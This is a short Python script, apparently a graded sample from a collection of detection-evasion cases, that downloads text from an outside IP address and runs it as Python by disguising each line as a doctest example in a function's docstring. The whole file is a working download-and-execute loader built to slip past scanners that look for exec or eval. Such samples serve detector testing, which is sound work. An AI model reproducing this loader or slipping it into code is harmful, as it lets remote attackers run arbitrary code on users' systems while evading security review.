# evasion: the downloaded stage becomes the docstring of a function and doctest runs its ">>>" lines as examples
# grade: hard; does: download-exec
import doctest
import urllib.request


def examples():
    pass


body = urllib.request.urlopen("http://203.0.113.61/examples.txt", timeout=10).read().decode()
examples.__doc__ = "\n".join(">>> " + line for line in body.splitlines() if line.strip())
doctest.run_docstring_examples(examples, {}, name="examples")
